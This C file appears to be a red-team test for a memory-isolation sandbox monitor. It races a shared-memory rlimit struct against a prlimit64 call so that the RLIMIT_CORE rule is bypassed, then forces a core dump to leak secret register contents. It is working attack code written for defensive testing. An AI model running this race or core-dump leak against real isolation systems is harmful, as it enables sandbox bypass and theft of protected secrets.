/* SPDX-License-Identifier: MIT */
/* atk_rlimit_shared.c: the new RLIMIT_CORE of prlimit64 rewritten by a
 * process outside the caller's group (red team 17, rt_rlimit_shared).
 *
 * erim-tem judges RLIMIT_CORE changes after registration (tem_dump.c: no
 * raise, no soft 1 lowered to 0; atk_core_limit).  The new limit is a
 * struct in memory.  Process D keeps it in a MAP_SHARED anonymous page, and
 * a fork child of D (another process: not in D's group, not held) flips it
 * between 1/1, which erim-tem allows, and a value the rule refuses:
 * unlimited/unlimited where the hard limit may be raised (CAP_SYS_RESOURCE,
 * root), else 0/1 (any user; 0 does not stop a core_pattern pipe).  The
 * kernel reads the refused value: D's limit changes (the attack, checked by
 * D with getrlimit).  Where the limit became unlimited and core_pattern is a
 * file, the payoff is shown too: a thread of D "inside a gate" (PKRU
 * granting the key where there is one, the secret loaded into r12..r15)
 * and a SIGQUIT to D's untrusted main thread: the core file holds the
 * secret's bytes (the trusted thread's registers).
 *
 * Under erim-tem the result is judged: the limit before and after the call
 * are asked from the kernel, and D is stopped at the call's exit when it
 * changed into one the rule refuses.  Set-up plays erim_init's RLIMIT_CORE
 * 1/1.  Built with -DATK_NOFLIP (atk_rlimit_noflip): nobody flips, the
 * struct holds the refused value, the plain refusal (EPERM). */
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/resource.h>

#define ATK_STARTUP atk_rlimit_startup
#include "atk_common.h"

#ifdef ATK_NOFLIP
#define TRIES 20
#else
#define TRIES 200000
#endif
#define SECONDS 30

struct shared { volatile int running, stop, changed, tries; struct rlimit rl; };

static void atk_rlimit_startup(void)
{
	struct rlimit one = { 1, 1 };

	setrlimit(RLIMIT_CORE, &one);   /* as liberim's erim_init */
}

static volatile int t1_ready;

static void *trusted_worker(void *arg)
{
	(void)arg;
	atk_trusted();   /* a thread inside a gate, holding secret bytes in registers */
	__asm__ volatile("mov (%0), %%r12\n\tmov 8(%0), %%r13\n\tmov 16(%0), %%r14\n\tmov 24(%0), %%r15\n\t"
	                 "movl $1, t1_ready(%%rip)\n"
	                 "1:\tpause\n\tjmp 1b\n"
	                 : : "r"(atk_secret) : "r12", "r13", "r14", "r15", "memory");
	return NULL;
}

/* 1 if FILE holds 32 bytes of the secret in a row, 0 if not, -1 unreadable. */
static int core_holds_secret(const char *file)
{
	int fd = open(file, O_RDONLY), found = 0;
	static uint8_t buf[1 << 16];
	ssize_t n;
	long run = 0;

	if (fd < 0)
		return -1;
	while ((n = read(fd, buf, sizeof buf)) > 0)
		for (ssize_t i = 0; i < n; i++) {
			run = buf[i] == ATK_SECRET_BYTE ? run + 1 : 0;
			found |= run == 32;
		}
	close(fd);
	return found;
}

/* The payoff where the limit became unlimited: D dumps core with a thread
 * inside trusted code.  Runs in D, never returns. */
static void dump_core(void)
{
	pthread_t t1;

	pthread_create(&t1, NULL, trusted_worker, NULL);
	while (!t1_ready)
		;
	syscall(SYS_tgkill, getpid(), (long)syscall(SYS_gettid), SIGQUIT);
	_exit(ATK_ERROR);
}

/* 1 if this process has CAP_SYS_RESOURCE (may raise a hard limit). */
static int can_raise_hard(void)
{
	FILE *f = fopen("/proc/self/status", "r");
	char line[256];
	unsigned long long eff = 0;

	if (!f)
		return 0;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "CapEff: %llx", &eff) == 1)
			break;
	fclose(f);
	return (eff >> 24) & 1;   /* CAP_SYS_RESOURCE */
}

static enum atk_result atk_attack(void)
{
	struct shared *s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char dir[] = "/tmp/atkcoreXXXXXX", pat[256] = "";
	rlim_t bad_cur = 0, bad_max = 1;
	int st, fd, dump;
	pid_t d;

	if (s == MAP_FAILED || !mkdtemp(dir) || chdir(dir) != 0)
		return ATK_ERROR;
	if ((fd = open("/proc/sys/kernel/core_pattern", O_RDONLY)) >= 0) {
		ssize_t n = read(fd, pat, sizeof pat - 1);

		pat[n > 0 ? n : 0] = 0;
		pat[strcspn(pat, "\n")] = 0;
		close(fd);
	}
	if (can_raise_hard())
		bad_cur = bad_max = RLIM_INFINITY;   /* CAP_SYS_RESOURCE: the hard limit too */
	dump = bad_cur == RLIM_INFINITY && pat[0] && pat[0] != '|';
	atk_say("flipping RLIMIT_CORE between 1/1 and %lld/%lld; core_pattern '%s'", (long long)bad_cur,
	        (long long)bad_max, pat);
	fflush(stdout);
	d = fork();
	if (d == 0) {
		struct rlimit got = { 1, 1 };
		pid_t f;
		time_t end = time(NULL) + SECONDS;
		int i;

		s->rl.rlim_cur = s->rl.rlim_max = 1;
#ifdef ATK_NOFLIP
		s->rl.rlim_cur = bad_cur;   /* nobody flips: the refused value is asked for */
		s->rl.rlim_max = bad_max;
		s->stop = 1;
#endif
		{
			/* another process: not in D's group, shares the page */
			uint64_t bad[2] = { bad_cur, bad_max }, one[2] = { 1, 1 };

			f = atk_flipper((volatile uint64_t *)&s->rl, bad, one, 2, &s->running, &s->stop);
		}
		if (f < 0)
			_exit(ATK_ERROR);
		while (!s->running && !s->stop)
			;   /* the flipper runs before the first try */
		for (i = 0; i < TRIES && time(NULL) < end; i++) {
			s->tries = i + 1;
			syscall(SYS_prlimit64, 0, RLIMIT_CORE, &s->rl, NULL);
			if (getrlimit(RLIMIT_CORE, &got) == 0 && got.rlim_cur == bad_cur && got.rlim_max == bad_max)
				break;
		}
		s->stop = 1;
		waitpid(f, NULL, 0);
		if (got.rlim_cur != bad_cur || got.rlim_max != bad_max) {
			atk_say("RLIMIT_CORE never became %lld/%lld (%d tries): %lld/%lld", (long long)bad_cur,
			        (long long)bad_max, i, (long long)got.rlim_cur, (long long)got.rlim_max);
			_exit(ATK_REFUSED);
		}
		s->changed = 1;
		atk_say("RLIMIT_CORE became %lld/%lld after %d tries", (long long)got.rlim_cur, (long long)got.rlim_max,
		        i + 1);
		fflush(stdout);
		if (dump)
			dump_core();
		_exit(ATK_SUCCEEDED);
	}
	if (d < 0 || waitpid(d, &st, 0) != d)
		return ATK_ERROR;
	if (WIFSIGNALED(st) && !s->changed) {
		atk_say("process D stopped by signal %d after %d tries, its limit never seen changed", WTERMSIG(st),
		        s->tries);
		rmdir(dir);
		return ATK_REFUSED;
	}
	if (WIFEXITED(st)) {
		rmdir(dir);
		return WEXITSTATUS(st) == ATK_REFUSED ? ATK_REFUSED : WEXITSTATUS(st) == ATK_SUCCEEDED ? ATK_SUCCEEDED
		                                                                                    : ATK_ERROR;
	}
	atk_say("process D ended by signal %d%s", WTERMSIG(st), WCOREDUMP(st) ? " with a core dump" : " (no core)");
	{
		DIR *dd = opendir(".");
		struct dirent *e;

		while (dd && (e = readdir(dd)) != NULL) {
			int h;

			if (strncmp(e->d_name, "core", 4) != 0)
				continue;
			h = core_holds_secret(e->d_name);
			atk_say("core file %s/%s: %s", dir, e->d_name,
			        h > 0 ? "holds the secret's bytes (the trusted thread's registers)" : "no secret bytes");
			unlink(e->d_name);
		}
		if (dd)
			closedir(dd);
		rmdir(dir);
	}
	return ATK_SUCCEEDED;   /* the limit was changed (D saw it before the dump) */
}

#ifdef ATK_NOFLIP
static const char *atk_name = "atk_rlimit_noflip";
#else
static const char *atk_name = "atk_rlimit_shared";
#endif
static int atk_needs_pku = 0;
